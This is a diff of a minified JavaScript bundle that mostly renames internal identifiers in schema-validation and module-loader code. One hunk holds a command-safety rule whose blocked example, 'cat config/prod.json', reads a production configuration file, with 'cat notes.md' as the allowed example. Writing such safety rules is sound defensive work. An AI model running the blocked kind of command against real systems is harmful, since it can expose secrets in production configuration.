-icy can add patterns to each layer, each with a name and a reason.",wrong:{command:"cat config/prod.json",policy:xu},right:{
-command:"cat notes.md",policy:xu},configure:"`patterns` in the policy.",message:({name:p,pattern:w,reason:A})=>`Command \
+icy can add patterns to each layer, each with a name and a reason.",wrong:{command:"cat config/prod.json",policy:Eu},right:{
+command:"cat notes.md",policy:Eu},configure:"`patterns` in the policy.",message:({name:p,pattern:w,reason:A})=>`Command \
 blocked by safety rule: Pattern '${w}' matches dangerous pattern '${p}': ${A.replace(/\.$/,"")}.`,remedy:"Write a comman\
-d that the pattern does not match, or change the pattern in the policy."})},"`workspace`"),Ou=[()=>ay,()=>XC,()=>PC,()=>hy,
-()=>py,()=>IC,()=>ZC,()=>Cy,()=>Le,()=>pe,()=>NC,()=>RC,()=>X,()=>sy,()=>_,()=>ty],Au=[...Ou,()=>QC];function _P(){return Ou.
-flatMap(p=>Object.values(p()))}function EP(){return Au.flatMap(p=>Object.values(p()))}const Su=new Map;function yy(p){const w=Su.
-get(p);if(w!==void 0)return w;const J=Au.find(ye=>Object.hasOwn(ye(),p))?.()?.[p];return J!==void 0&&Su.set(p,J),J}},561:function(t,e,n){
+d that the pattern does not match, or change the pattern in the policy."})},"`workspace`"),ku=[()=>iy,()=>VC,()=>FC,()=>By,
+()=>fy,()=>SC,()=>UC,()=>my,()=>Le,()=>pe,()=>$C,()=>IC,()=>X,()=>ty,()=>_,()=>QC],vu=[...ku,()=>YC];function _P(){return ku.
+flatMap(p=>Object.values(p()))}function EP(){return vu.flatMap(p=>Object.values(p()))}const Du=new Map;function gy(p){const w=Du.
+get(p);if(w!==void 0)return w;const J=vu.find(ye=>Object.hasOwn(ye(),p))?.()?.[p];return J!==void 0&&Du.set(p,J),J}},561:function(t,e,n){
 n.d(e,{Lb:()=>a,be:()=>h,gk:()=>i,pn:()=>C,q0:()=>c});var s=n(698),r=n(56);function i(y,D,O={}){return o(y,D,O)}function o(y,D,O){
 const{severity:v,harm:I,layer:_}=(0,r.Y)(y);return{rule:y,severity:v,harm:I,layer:_,args:D,...O}}function a({rule:y,args:D,
 span:O,severity:v}){return o(y,D,{span:O,severity:v})}function c({rule:y,args:D,edit:O,danger:v,level:I}){const _=(0,r.Y)(
@@ -1851,15 +1853,15 @@ return y instanceof s.ue?y.message:y instanceof Error?`${y.name}: ${y.message}`:
 0?"eligible":y.every(b)?"unproven":"refuted"}function b({rule:y}){const{unproven:D,undecided:O}=(0,r.Y)(y);return D===!0||
 O===!0}},442:function(t,e,n){n.d(e,{f:()=>r,p:()=>s});function s(i){return i.map(o=>`\`${o}\``).join(", ")}function r(i){
 return`'${i.replaceAll("'","'\\''")}'`}}},eo={};function Te(t){var e=eo[t];if(e!==void 0)return e.exports;var n=eo[t]={exports:{}},
-s=!0;try{Tu[t](n,n.exports,Te),s=!1}finally{s&&delete eo[t]}return n.exports}Te.m=Tu,typeof Te<"u"&&(Te.ab=decodeURIComponent(
+s=!0;try{xu[t](n,n.exports,Te),s=!1}finally{s&&delete eo[t]}return n.exports}Te.m=xu,typeof Te<"u"&&(Te.ab=decodeURIComponent(
 new URL(".",import.meta.url).pathname).slice(import.meta.url.match(/^file:\/\/\/\w:/)?1:0,-1)+"/"),Te.d=(t,e)=>{for(var n in e)
 Te.o(e,n)&&!Te.o(t,n)&&Object.defineProperty(t,n,{enumerable:!0,get:e[n]})},Te.f={},Te.e=t=>Promise.all(Object.keys(Te.f).
 reduce((e,n)=>(Te.f[n](t,e),e),[])),Te.u=t=>""+t+".index.js",Te.o=(t,e)=>Object.prototype.hasOwnProperty.call(t,e),(()=>{
 var t={792:0},e=n=>{var{ids:s,modules:r,runtime:i}=n,o,a,c=0;for(o in r)Te.o(r,o)&&(Te.m[o]=r[o]);for(i&&i(Te);c<s.length;c++)
 a=s[c],Te.o(t,a)&&t[a]&&t[a][0](),t[s[c]]=0};Te.f.j=(n,s)=>{var r=Te.o(t,n)?t[n]:void 0;if(r!==0)if(r)s.push(r[1]);else{
 var i=import("./"+Te.u(n)).then(e,o=>{throw t[n]!==0&&(t[n]=void 0),o}),i=Promise.race([i,new Promise(o=>r=t[n]=[o])]);s.
-push(r[1]=i)}}})();var St={};Te.d(St,{Ht:()=>nP,aB:()=>zL,x:()=>qL,dj:()=>JL,_U:()=>WL,Ae:()=>ZL,lq:()=>XL,hI:()=>UL,q:()=>QL,
-Gj:()=>YL,qW:()=>tP,zD:()=>KL});const to=Et(import.meta.url)("node:crypto"),Iu="1.13.0";function ss(t){return t==null?"n\
+push(r[1]=i)}}})();var St={};Te.d(St,{Ht:()=>nP,aB:()=>zL,x:()=>WL,dj:()=>JL,_U:()=>qL,Ae:()=>ZL,lq:()=>XL,hI:()=>UL,q:()=>QL,
+Gj:()=>YL,qW:()=>tP,zD:()=>KL});const to=Et(import.meta.url)("node:crypto"),Ou="1.13.0";function ss(t){return t==null?"n\
 ull":typeof t=="boolean"?t?"true":"false":typeof t=="number"?Number.isFinite(t)?String(t):"null":typeof t=="string"?JSON.
 stringify(t):Array.isArray(t)?"["+t.map(ss).join(",")+"]":typeof t=="object"?"{"+Object.keys(t).sort().map(s=>JSON.stringify(
 s)+":"+ss(t[s])).join(",")+"}":"null"}function dr(t,e){if(!t||typeof t!="object")return null;const n=new Set(Array.isArray(
@@ -1872,37 +1874,37 @@ freeze(["cheap","mid","expensive"]),RP=Object.freeze(["off","low","medium","high
 freeze(["behavioral","structural","performance","safety"]),LP=Object.freeze(["ci","local","prod","sandbox"]),PP=Object.freeze(
 ["pass","fail","inconclusive"]);function jP(t){return t}function MP(t){return t}function GP(){return t=>t}function HP(t){}
 function zP(t){throw new Error("Unexpected value in exhaustive check")}function UP(t){}function no(t){const e=Object.values(
-t).filter(s=>typeof s=="number");return Object.entries(t).filter(([s,r])=>e.indexOf(+s)===-1).map(([s,r])=>r)}function $u(t,e="\
-|"){return t.map(n=>Mu(n)).join(e)}function so(t,e){return typeof e=="bigint"?e.toString():e}class by{constructor(e){this.
+t).filter(s=>typeof s=="number");return Object.entries(t).filter(([s,r])=>e.indexOf(+s)===-1).map(([s,r])=>r)}function Au(t,e="\
+|"){return t.map(n=>Fu(n)).join(e)}function so(t,e){return typeof e=="bigint"?e.toString():e}class yy{constructor(e){this.
 _getter=e,this._value=void 0}get value(){const e=this._getter;return e!==void 0&&(this._value=e(),this._getter=void 0),this.
-_value}}function ro(t){return new by(t)}function _y(t){return t==null}function io(t){const e=t.startsWith("^")?1:0,n=t.endsWith(
-"$")?t.length-1:t.length;return t.slice(e,n)}function Ey(t,e){const n=t/e,s=Math.round(n),r=4*Number.EPSILON*Math.max(Math.
-abs(n),1);return Math.abs(n-s)<r?0:n-s}const Ru=null;function JP(t,e,n){let s;Object.defineProperty(t,e,{get(){if(s!==Ru)
-return s===void 0&&(s=Ru,s=n()),s},set(r){Object.defineProperty(t,e,{value:r})},configurable:!0})}function ZP(t){return Object.
+_value}}function ro(t){return new yy(t)}function wy(t){return t==null}function io(t){const e=t.startsWith("^")?1:0,n=t.endsWith(
+"$")?t.length-1:t.length;return t.slice(e,n)}function by(t,e){const n=t/e,s=Math.round(n),r=4*Number.EPSILON*Math.max(Math.
+abs(n),1);return Math.abs(n-s)<r?0:n-s}const Su=null;function JP(t,e,n){let s;Object.defineProperty(t,e,{get(){if(s!==Su)
+return s===void 0&&(s=Su,s=n()),s},set(r){Object.defineProperty(t,e,{value:r})},configurable:!0})}function ZP(t){return Object.
 create(Object.getPrototypeOf(t),Object.getOwnPropertyDescriptors(t))}function mn(t,e,n){Object.defineProperty(t,e,{value:n,
-writable:!0,enumerable:!0,configurable:!0})}function Nu(t){const e=Object.getOwnPropertyDescriptor(t,"shape");return e?.
-get?e.get.raw:e?.value}function nn(t){return Nu(t._zod.def)??t._zod.def.shape}function Fu(t,e,n){Object.defineProperty(t,
-e,{get(){const s=n();return mn(this,e,s),s},enumerable:!0,configurable:!0})}function Lu(t,e,n){e in t?mn(t,e,n):t[e]=n}function $n(t,e,n,s){
-const r=nn(e);for(const i of n){const o=Object.getOwnPropertyDescriptor(r,i);o.enumerable&&(o.get?Fu(t,i,()=>{const a=e.
-_zod.def.shape[i];return s?s(a,i):a}):Lu(t,i,s?s(o.value,i):o.value))}}function ky(t,e){for(const n of Reflect.ownKeys(e)){
-const s=Object.getOwnPropertyDescriptor(e,n);s.enumerable&&(s.get?Fu(t,n,()=>e[n]):Lu(t,n,s.value))}}function kt(...t){const e={};
+writable:!0,enumerable:!0,configurable:!0})}function Tu(t){const e=Object.getOwnPropertyDescriptor(t,"shape");return e?.
+get?e.get.raw:e?.value}function sn(t){return Tu(t._zod.def)??t._zod.def.shape}function Iu(t,e,n){Object.defineProperty(t,
+e,{get(){const s=n();return mn(this,e,s),s},enumerable:!0,configurable:!0})}function $u(t,e,n){e in t?mn(t,e,n):t[e]=n}function $n(t,e,n,s){
+const r=sn(e);for(const i of n){const o=Object.getOwnPropertyDescriptor(r,i);o.enumerable&&(o.get?Iu(t,i,()=>{const a=e.
+_zod.def.shape[i];return s?s(a,i):a}):$u(t,i,s?s(o.value,i):o.value))}}function _y(t,e){for(const n of Reflect.ownKeys(e)){
+const s=Object.getOwnPropertyDescriptor(e,n);s.enumerable&&(s.get?Iu(t,n,()=>e[n]):$u(t,n,s.value))}}function kt(...t){const e={};
 for(const n of t){const s=Object.getOwnPropertyDescriptors(n);Object.assign(e,s)}return Object.defineProperties({},e)}function KP(t){
-return kt(t._zod.def)}function WP(t,e){return e?e.reduce((n,s)=>n?.[s],t):t}function qP(t){const e=Object.keys(t),n=e.map(
+return kt(t._zod.def)}function qP(t,e){return e?e.reduce((n,s)=>n?.[s],t):t}function WP(t){const e=Object.keys(t),n=e.map(
 s=>t[s]);return Promise.all(n).then(s=>{const r={};for(let i=0;i<e.length;i++)r[e[i]]=s[i];return r})}function VP(t=10){
-const e="abcdefghijklmnopqrstuvwxyz";let n="";for(let s=0;s<t;s++)n+=e[Math.floor(Math.random()*e.length)];return n}function vy(t){
-return JSON.stringify(t)}function Dy(t){return t.toLowerCase().trim().replace(/[^\w\s-]/g,"").replace(/[\s_-]+/g,"-").replace(
-/^-+|-+$/g,"")}const Pu="captureStackTrace"in Error?Error.captureStackTrace:(...t)=>{};function Br(t){return typeof t=="\
-object"&&t!==null&&!Array.isArray(t)}const xy=ro(()=>{if(Rt.jitless||typeof navigator<"u"&&navigator?.userAgent?.includes(
+const e="abcdefghijklmnopqrstuvwxyz";let n="";for(let s=0;s<t;s++)n+=e[Math.floor(Math.random()*e.length)];return n}function Ey(t){
+return JSON.stringify(t)}function ky(t){return t.toLowerCase().trim().replace(/[^\w\s-]/g,"").replace(/[\s_-]+/g,"-").replace(
+/^-+|-+$/g,"")}const Ru="captureStackTrace"in Error?Error.captureStackTrace:(...t)=>{};function Br(t){return typeof t=="\
+object"&&t!==null&&!Array.isArray(t)}const vy=ro(()=>{if(Rt.jitless||typeof navigator<"u"&&navigator?.userAgent?.includes(
 "Cloudflare"))return!1;try{const t=Function;return new t(""),!0}catch{return!1}});function rs(t){if(Br(t)===!1)return!1;
 const e=t.constructor;if(e===void 0||typeof e!="function")return!0;const n=e.prototype;return!(Br(n)===!1||Object.prototype.
-hasOwnProperty.call(n,"isPrototypeOf")===!1)}function ju(t){return rs(t)?{...t}:Array.isArray(t)?[...t]:t instanceof Map?
+hasOwnProperty.call(n,"isPrototypeOf")===!1)}function Nu(t){return rs(t)?{...t}:Array.isArray(t)?[...t]:t instanceof Map?
 new Map(t):t instanceof Set?new Set(t):t}function YP(t){let e=0;for(const n in t)Object.prototype.hasOwnProperty.call(t,
 n)&&e++;return e}const XP=t=>{const e=typeof t;switch(e){case"undefined":return"undefined";case"string":return"string";case"\
 number":return Number.isNaN(t)?"nan":"number";case"boolean":return"boolean";case"function":return"function";case"bigint":
 return"bigint";case"symbol":return"symbol";case"object":return Array.isArray(t)?"array":t===null?"null":t.then&&typeof t.
 then=="function"&&t.catch&&typeof t.catch=="function"?"promise":typeof Map<"u"&&t instanceof Map?"map":typeof Set<"u"&&t instanceof
 Set?"set":typeof Date<"u"&&t instanceof Date?"date":typeof File<"u"&&t instanceof File?"file":"object";default:throw new Error(
-`Unknown data type: ${e}`)}},Oy=new Set(["string","number","symbol"]),QP=new Set(["string","number","bigint","boolean","\
+`Unknown data type: ${e}`)}},Dy=new Set(["string","number","symbol"]),QP=new Set(["string","number","bigint","boolean","\
 symbol","undefined"]);function is(t){return t.replace(/[.*+?^${}()|[\]\\]/g,"\\$&")}function gn(t,e,n){const s=new t._zod.
 constr(e??t._zod.def);return(!e||n?.parent)&&(s._zod.parent=t),s}function Be(t){const e=t;if(!e)return{};if(typeof e=="s\
 tring")return{error:()=>e};if(e?.message!==void 0){if(e?.error!==void 0)throw new Error("Cannot specify both `message` a\
@@ -1910,86 +1912,86 @@ nd `error` params");e.error=e.message}return delete e.message,typeof e.error=="s
 let e;return new Proxy({},{get(n,s,r){return e??(e=t()),Reflect.get(e,s,r)},set(n,s,r,i){return e??(e=t()),Reflect.set(e,
 s,r,i)},has(n,s){return e??(e=t()),Reflect.has(e,s)},deleteProperty(n,s){return e??(e=t()),Reflect.deleteProperty(e,s)},
 ownKeys(n){return e??(e=t()),Reflect.ownKeys(e)},getOwnPropertyDescriptor(n,s){return e??(e=t()),Reflect.getOwnPropertyDescriptor(
-e,s)},defineProperty(n,s,r){return e??(e=t()),Reflect.defineProperty(e,s,r)}})}function Mu(t){return typeof t=="bigint"?
-t.toString()+"n":typeof t=="string"?`"${t}"`:`${t}`}function Ay(t){return Object.keys(t).filter(e=>t[e]._zod.optin!==void 0&&
-t[e]._zod.optout==="optional")}const Gu={safeint:[Number.MIN_SAFE_INTEGER,Number.MAX_SAFE_INTEGER],int32:[-2147483648,2147483647],
+e,s)},defineProperty(n,s,r){return e??(e=t()),Reflect.defineProperty(e,s,r)}})}function Fu(t){return typeof t=="bigint"?
+t.toString()+"n":typeof t=="string"?`"${t}"`:`${t}`}function xy(t){return Object.keys(t).filter(e=>t[e]._zod.optin!==void 0&&
+t[e]._zod.optout==="optional")}const Lu={safeint:[Number.MIN_SAFE_INTEGER,Number.MAX_SAFE_INTEGER],int32:[-2147483648,2147483647],
 uint32:[0,4294967295],float32:[-34028234663852886e22,34028234663852886e22],float64:[-Number.MAX_VALUE,Number.MAX_VALUE]},
-Sy={int64:[BigInt("-9223372036854775808"),BigInt("9223372036854775807")],uint64:[BigInt(0),BigInt("18446744073709551615")]};
-function Ty(t,e){const n=t._zod.def,s=n.checks;if(s&&s.length>0)throw new Error(".pick() cannot be used on object schema\
-s containing refinements");const i={};return $n(i,t,fr(t,e)),gn(t,kt(n,{shape:i,checks:[]}))}function fr(t,e){const n=nn(
+Oy={int64:[BigInt("-9223372036854775808"),BigInt("9223372036854775807")],uint64:[BigInt(0),BigInt("18446744073709551615")]};
+function Ay(t,e){const n=t._zod.def,s=n.checks;if(s&&s.length>0)throw new Error(".pick() cannot be used on object schema\
+s containing refinements");const i={};return $n(i,t,fr(t,e)),gn(t,kt(n,{shape:i,checks:[]}))}function fr(t,e){const n=sn(
 t),s=[];for(const r of Reflect.ownKeys(e)){if(!Object.getOwnPropertyDescriptor(n,r)?.enumerable)throw new Error(`Unrecog\
-nized key: "${String(r)}"`);e[r]&&s.push(r)}return s}function Iy(t,e){const n=t._zod.def,s=n.checks;if(s&&s.length>0)throw new Error(
+nized key: "${String(r)}"`);e[r]&&s.push(r)}return s}function Sy(t,e){const n=t._zod.def,s=n.checks;if(s&&s.length>0)throw new Error(
 ".omit() cannot be used on object schemas containing refinements");const i=new Set(fr(t,e)),o={};return $n(o,t,Reflect.ownKeys(
-nn(t)).filter(a=>!i.has(a))),gn(t,kt(n,{shape:o,checks:[]}))}function $y(t,e){if(!rs(e))throw new Error("Invalid input t\
-o extend: expected a plain object");const n=t._zod.def.checks;if(n&&n.length>0){const r=nn(t);for(const i of Reflect.ownKeys(
+sn(t)).filter(a=>!i.has(a))),gn(t,kt(n,{shape:o,checks:[]}))}function Ty(t,e){if(!rs(e))throw new Error("Invalid input t\
+o extend: expected a plain object");const n=t._zod.def.checks;if(n&&n.length>0){const r=sn(t);for(const i of Reflect.ownKeys(
 e))if(Object.getOwnPropertyDescriptor(r,i)!==void 0)throw new Error("Cannot overwrite keys on object schemas containing \
-refinements. Use `.safeExtend()` instead.")}return gn(t,kt(t._zod.def,{shape:Hu(t,e)}))}function Hu(t,e){const n={};return $n(
-n,t,Reflect.ownKeys(nn(t))),ky(n,e),n}function Ry(t,e){if(!rs(e))throw new Error("Invalid input to safeExtend: expected \
-a plain object");return gn(t,kt(t._zod.def,{shape:Hu(t,e)}))}function Ny(t,e){if(!e?._zod?.def)throw new Error("Invalid \
+refinements. Use `.safeExtend()` instead.")}return gn(t,kt(t._zod.def,{shape:Pu(t,e)}))}function Pu(t,e){const n={};return $n(
+n,t,Reflect.ownKeys(sn(t))),_y(n,e),n}function Iy(t,e){if(!rs(e))throw new Error("Invalid input to safeExtend: expected \
+a plain object");return gn(t,kt(t._zod.def,{shape:Pu(t,e)}))}function $y(t,e){if(!e?._zod?.def)throw new Error("Invalid \
 input to merge: expected an object schema. To merge a plain shape, use `.extend()`.");if(t._zod.def.checks?.length)throw new Error(
 ".merge() cannot be used on object schemas containing refinements. Use .safeExtend() instead.");const n={};$n(n,t,Reflect.
-ownKeys(nn(t))),$n(n,e,Reflect.ownKeys(nn(e)));const s=kt(t._zod.def,{shape:n,get catchall(){return e._zod.def.catchall},
-checks:e._zod.def.checks??[]});return gn(t,s)}function zu(t,e,n,s="partial"){const i=e._zod.def.checks;if(i&&i.length>0)
+ownKeys(sn(t))),$n(n,e,Reflect.ownKeys(sn(e)));const s=kt(t._zod.def,{shape:n,get catchall(){return e._zod.def.catchall},
+checks:e._zod.def.checks??[]});return gn(t,s)}function ju(t,e,n,s="partial"){const i=e._zod.def.checks;if(i&&i.length>0)
 throw new Error(`.${s}() cannot be used on object schemas containing refinements`);const a=n?new Set(fr(e,n)):void 0,c={};
-return $n(c,e,Reflect.ownKeys(nn(e)),t&&((u,l)=>a&&!a.has(l)?u:new t({type:"optional",innerType:u}))),gn(e,kt(e._zod.def,
-{shape:c,checks:[]}))}function Fy(t,e,n){const s=n?new Set(fr(e,n)):void 0,r={};return $n(r,e,Reflect.ownKeys(nn(e)),(i,o)=>s&&
+return $n(c,e,Reflect.ownKeys(sn(e)),t&&((u,l)=>a&&!a.has(l)?u:new t({type:"optional",innerType:u}))),gn(e,kt(e._zod.def,
+{shape:c,checks:[]}))}function Ry(t,e,n){const s=n?new Set(fr(e,n)):void 0,r={};return $n(r,e,Reflect.ownKeys(sn(e)),(i,o)=>s&&
 !s.has(o)?i:new t({type:"nonoptional",innerType:i})),gn(e,kt(e._zod.def,{shape:r}))}function Mt(t,e=0){if(t.aborted===!0)
-return!0;for(let n=e;n<t.issues.length;n++)if(t.issues[n]?.continue!==!0)return!0;return!1}function Ly(t,e=0){if(t.aborted===
-!0)return!0;for(let n=e;n<t.issues.length;n++)if(t.issues[n]?.continue===!1)return!0;return!1}function sn(t,e){return e.
+return!0;for(let n=e;n<t.issues.length;n++)if(t.issues[n]?.continue!==!0)return!0;return!1}function Ny(t,e=0){if(t.aborted===
+!0)return!0;for(let n=e;n<t.issues.length;n++)if(t.issues[n]?.continue===!1)return!0;return!1}function rn(t,e){return e.
 map(n=>{var s;return(s=n).path??(s.path=[]),n.path.unshift(t),n})}function Os(t){return typeof t=="string"?t:t?.message}
-function Uu(t){const e=[];for(const n of t??[]){const s=n._zod.def;if(!/_(length|size)$|_equals$/.test(s.check))break;const r=s.
+function Mu(t){const e=[];for(const n of t??[]){const s=n._zod.def;if(!/_(length|size)$|_equals$/.test(s.check))break;const r=s.
 maximum??s.length??s.size;r>=0&&e.push([r,n])}return e}function oo(t,e,n){var s;for(let r=e;r<t.length;r++)(s=t[r]).schema??
 (s.schema=n)}function Cn(t,e,n){var s;const r=t.inst?._zod?.traits;r?.has("$ZodType")&&(r.has("$ZodCheck")?(s=t).schema??
 (s.schema=t.inst):t.schema=t.inst);const i=t.schema!==t.inst?t.schema?._zod.def?.error:void 0,o=t.message?t.message:Os(t.
 inst?._zod.def?.error?.(t))??Os(i?.(t))??Os(e?.error?.(t))??Os(n.customError?.(t))??Os(n.localeError?.(t))??"Invalid inp\
 ut",a={};for(const c of Object.keys(t))c==="inst"||c==="schema"||c==="continue"||c==="input"||c==="__proto__"||(a[c]=t[c]);
 return a.path??(a.path=[]),a.message=o,e?.reportInput&&(a.input=t.input),a}function tj(t){return t instanceof Set?"set":
-t instanceof Map?"map":t instanceof File?"file":"unknown"}const Py=/[\uD800-\uDBFF]/;function ao(t){const e=t.length;if(!Py.
+t instanceof Map?"map":t instanceof File?"file":"unknown"}const Fy=/[\uD800-\uDBFF]/;function ao(t){const e=t.length;if(!Fy.
 test(t))return e;let n=e;for(let s=0;s<e-1;s++)(t.charCodeAt(s)&64512)===55296&&(t.charCodeAt(s+1)&64512)===56320&&(n--,
-s++);return n}function co(t){return Array.isArray(t)?"array":typeof t=="string"?"string":"unknown"}function jy(t){const e=typeof t;
+s++);return n}function co(t){return Array.isArray(t)?"array":typeof t=="string"?"string":"unknown"}function Ly(t){const e=typeof t;
 switch(e){case"number":return Number.isNaN(t)?"nan":"number";case"object":{if(t===null)return"null";if(Array.isArray(t))
 return"array";const n=t;if(n&&Object.getPrototypeOf(n)!==Object.prototype&&"constructor"in n&&n.constructor)return n.constructor.
 name}}return e}function As(...t){const[e,n,s]=t;return typeof e=="string"?{message:e,code:"custom",input:n,inst:s}:{...e}}
-function nj(t){return Object.entries(t).filter(([e,n])=>Number.isNaN(Number.parseInt(e,10))).map(e=>e[1])}function My(t){
-const e=atob(t),n=new Uint8Array(e.length);for(let s=0;s<e.length;s++)n[s]=e.charCodeAt(s);return n}function Gy(t){let e="";
+function nj(t){return Object.entries(t).filter(([e,n])=>Number.isNaN(Number.parseInt(e,10))).map(e=>e[1])}function Py(t){
+const e=atob(t),n=new Uint8Array(e.length);for(let s=0;s<e.length;s++)n[s]=e.charCodeAt(s);return n}function jy(t){let e="";
 for(let n=0;n<t.length;n++)e+=String.fromCharCode(t[n]);return btoa(e)}function sj(t){const e=t.replace(/-/g,"+").replace(
-/_/g,"/"),n="=".repeat((4-e.length%4)%4);return My(e+n)}function rj(t){return Gy(t).replace(/\+/g,"-").replace(/\//g,"_").
+/_/g,"/"),n="=".repeat((4-e.length%4)%4);return Py(e+n)}function rj(t){return jy(t).replace(/\+/g,"-").replace(/\//g,"_").
 replace(/=/g,"")}function ij(t){const e=t.replace(/^0x/,"");if(e.length%2!==0)throw new Error("Invalid hex string length");
 const n=new Uint8Array(e.length/2);for(let s=0;s<e.length;s+=2)n[s/2]=Number.parseInt(e.slice(s,s+2),16);return n}function oj(t){
-return Array.from(t).map(e=>e.toString(16).padStart(2,"0")).join("")}class aj{constructor(...e){}}function Hy(t,e){for(const n in e){
-const s=Object.getOwnPropertyDescriptor(e,n);s.get?Object.defineProperty(t,n,{...s,enumerable:!1}):zy(t,n,s.value)}}function yn(t,e,n,s=!0){
+return Array.from(t).map(e=>e.toString(16).padStart(2,"0")).join("")}class aj{constructor(...e){}}function My(t,e){for(const n in e){
+const s=Object.getOwnPropertyDescriptor(e,n);s.get?Object.defineProperty(t,n,{...s,enumerable:!1}):Gy(t,n,s.value)}}function yn(t,e,n,s=!0){
 return Object.defineProperty(t,e,{configurable:!0,writable:!0,enumerable:s,value:n}),n}function uo(t,e,n){return yn(t,e,
 n,!1)}function hr(t,e){for(const n in t){const s=t[n];Object.defineProperty(e,n,{configurable:!0,enumerable:!0,get(){return yn(
-this,n,s(this))},set(r){yn(this,n,r)}})}return e}function zy(t,e,n){Object.defineProperty(t,e,{configurable:!0,get(){return this==
-null?n:yn(this,e,n.bind(this))},set(s){yn(this,e,s)}})}function Uy(t,e){const n=Object.getPrototypeOf(t);return e in n?void 0:
-n}let lo,wn=!1;const Jy={configurable:!0,get(){wn=!0}};function He(t,e,n){const s=Object.getPrototypeOf(t._zod);if(e in s&&
-lo!==t._zod){lo=void 0;return}lo=t._zod,Object.defineProperty(s,e,{configurable:!0,get(){Object.defineProperty(this,e,Jy);
+this,n,s(this))},set(r){yn(this,n,r)}})}return e}function Gy(t,e,n){Object.defineProperty(t,e,{configurable:!0,get(){return this==
+null?n:yn(this,e,n.bind(this))},set(s){yn(this,e,s)}})}function Hy(t,e){const n=Object.getPrototypeOf(t);return e in n?void 0:
+n}let lo,wn=!1;const zy={configurable:!0,get(){wn=!0}};function He(t,e,n){const s=Object.getPrototypeOf(t._zod);if(e in s&&
+lo!==t._zod){lo=void 0;return}lo=t._zod,Object.defineProperty(s,e,{configurable:!0,get(){Object.defineProperty(this,e,zy);
 const r=wn;wn=!1;try{const i=n(this);return wn?delete this[e]:Object.defineProperty(this,e,{configurable:!0,writable:!0,
 value:i}),wn=wn||r,i}catch(i){throw delete this[e],wn=wn||r,i}},set(r){Object.defineProperty(this,e,{configurable:!0,writable:!0,
-value:r})}})}function Zy(t,e,n,s){const r=Uy(t,e);r&&Object.defineProperty(r,e,{configurable:!0,get(){const i={configurable:!0,
+value:r})}})}function Uy(t,e,n,s){const r=Hy(t,e);r&&Object.defineProperty(r,e,{configurable:!0,get(){const i={configurable:!0,
 writable:!0,enumerable:s,value:void 0};return Object.defineProperty(this,e,i),i.value=n(this),Object.defineProperty(this,
-e,i),i.value},set(i){Object.defineProperty(this,e,{configurable:!0,writable:!0,enumerable:s,value:i})}})}const Ky="~cons\
-tantCatch";function Wy(t){const e=()=>t;return e[Ky]=!0,e}var Ju;const cj=Object.freeze({status:"aborted"}),Bo={value:void 0,
-enumerable:!1};let Zu="captureStackTrace"in Error?Error:null;function qy(t){const e=Zu;if(e){const n=e.stackTraceLimit;if(typeof n==
-"number"){try{e.stackTraceLimit=0}catch{return Zu=null,new t}try{return new t}finally{e.stackTraceLimit=n}}}return new t}
+e,i),i.value},set(i){Object.defineProperty(this,e,{configurable:!0,writable:!0,enumerable:s,value:i})}})}const Jy="~cons\
+tantCatch";function Zy(t){const e=()=>t;return e[Jy]=!0,e}var Gu;const cj=Object.freeze({status:"aborted"}),Bo={value:void 0,
+enumerable:!1};let Hu="captureStackTrace"in Error?Error:null;function Ky(t){const e=Hu;if(e){const n=e.stackTraceLimit;if(typeof n==
+"number"){try{e.stackTraceLimit=0}catch{return Hu=null,new t}try{return new t}finally{e.stackTraceLimit=n}}}return new t}
 function N(t,e,n,s){const r={};function i(B){this.def=B,this.constr=d,this.traits=new Set}i.prototype=r;const o=n,a=o&&new WeakSet;
 function c(B,f){if(B._zod){if(B._zod.traits.has(t))return}else{Bo.value=new i(f);try{Object.defineProperty(B,"_zod",Bo)}finally{
 Bo.value=void 0}}if(B._zod.traits.add(t),e(B,f),a){const m=Object.getPrototypeOf(B),g=B._zod.constr.prototype;let C=m;for(;C&&
-C!==g;)C=Object.getPrototypeOf(C);const b=C??m;a.has(b)||(a.add(b),Hy(b,o))}const h=d.prototype;for(const m in h)Object.
+C!==g;)C=Object.getPrototypeOf(C);const b=C??m;a.has(b)||(a.add(b),My(b,o))}const h=d.prototype;for(const m in h)Object.
 prototype.hasOwnProperty.call(h,m)&&(m in B||(B[m]=h[m].bind(B)))}const u=s?.Parent??Object;class l extends u{}Object.defineProperty(
-l,"name",{value:t});function d(B){const f=s?.Parent?qy(l):this;c(f,B);const h=f._zod.deferred;if(h){for(const g of h)g();
+l,"name",{value:t});function d(B){const f=s?.Parent?Ky(l):this;c(f,B);const h=f._zod.deferred;if(h){for(const g of h)g();
 f._zod.deferred=void 0}const m=globalThis.__zod_globalConfig?.postProcessor;return m&&m(f),f}return Object.defineProperty(
 d,"init",{value:c}),Object.defineProperty(d,Symbol.hasInstance,{value:B=>s?.Parent&&B instanceof s.Parent?!0:B?._zod?.traits?.
 has(t)}),Object.defineProperty(d,"name",{value:t}),d}const uj=null;class Rn extends Error{constructor(){super("Encounter\
-ed Promise during synchronous parse. Use .parseAsync() instead.")}}class Ku extends Error{constructor(e){super(`Encounte\
-red unidirectional transform during encode: ${e}`),this.name="ZodEncodeError"}}(Ju=globalThis).__zod_globalConfig??(Ju.__zod_globalConfig=
-{});const Rt=globalThis.__zod_globalConfig;function Kt(t){return t&&Object.assign(Rt,t),Rt}class Vy extends Error{constructor(){
-super("Cannot parse a reference cycle that closes through a transform"),this.name="ZodCyclicError"}}const fo="~memo",Wu=[];
-function qu(t){return t!==null&&typeof t=="object"}function ho(t){return t.map(e=>e.path?{...e,path:e.path.slice()}:{...e})}
-const Vu=new WeakMap,os=0,pr=1,Ss=2;function Ts(t,e,n){const s=Vu.get(t);if(s!==void 0)return s?Ss:os;if(e.has(t))return Ss;
+ed Promise during synchronous parse. Use .parseAsync() instead.")}}class zu extends Error{constructor(e){super(`Encounte\
+red unidirectional transform during encode: ${e}`),this.name="ZodEncodeError"}}(Gu=globalThis).__zod_globalConfig??(Gu.__zod_globalConfig=
+{});const Rt=globalThis.__zod_globalConfig;function qt(t){return t&&Object.assign(Rt,t),Rt}class qy extends Error{constructor(){
+super("Cannot parse a reference cycle that closes through a transform"),this.name="ZodCyclicError"}}const fo="~memo",Uu=[];
+function Ju(t){return t!==null&&typeof t=="object"}function ho(t){return t.map(e=>e.path?{...e,path:e.path.slice()}:{...e})}
+const Zu=new WeakMap,os=0,pr=1,Ss=2;function Ts(t,e,n){const s=Zu.get(t);if(s!==void 0)return s?Ss:os;if(e.has(t))return Ss;
 e.add(t);let r=os;const i=l=>{if(r!==Ss&&l?._zod){const d=Ts(l,e,n);d>r&&(r=d)}},o=(l,d)=>{let B=os;for(const f of Reflect.
